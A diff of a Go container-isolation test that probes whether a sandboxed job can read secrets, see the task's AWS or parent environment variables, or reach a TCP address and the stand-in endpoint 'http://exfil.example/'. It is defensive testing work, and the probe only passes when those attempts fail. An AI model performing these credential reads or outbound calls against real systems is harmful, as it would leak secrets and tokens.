@@ -121,7 +121,7 @@ func TestTaskTopology(t *testing.T) {
 		"-e", "AWS_SESSION_TOKEN=task-role-token"}, containerFlags(t, job, sources)...)
 	args = append(args, "--entrypoint", job.EntryPoint[0], "cordon/probe:"+testTag)
 	args = append(args, job.EntryPoint[1:]...)
-	args = append(args, "/usr/local/bin/cordon-probe", "secret=MONAD_RPC_KEY", "secret=DB_PASSWORD", "aws-env", "tcp=192.0.2.1:443", "http=http://exfil.example/")
+	args = append(args, "/usr/local/bin/cordon-probe", "secret=MONAD_RPC_KEY", "secret=DB_PASSWORD", "aws-env", "parent-env", "tcp=192.0.2.1:443", "http=http://exfil.example/")
 	stdout, stderr, code := docker(t, ctx, nil, args...)
 	if code != 0 {
 		logs, _, _ := docker(t, ctx, nil, "logs", prefix+"-sidecar")
@@ -146,7 +146,7 @@ func TestTaskTopology(t *testing.T) {
 		switch {
 		case r.Probe == "secret" && r.OK:
 			seen[r.Target]++
-		case r.Probe == "aws-env" && r.OK:
+		case (r.Probe == "aws-env" || r.Probe == "parent-env") && r.OK:
 			t.Errorf("the job sees the task's credential variables: %s", sc.Text())
 		case r.Probe == "tcp" && r.OK:
 			t.Errorf("the job connected out of a task with no route: %s", sc.Text())
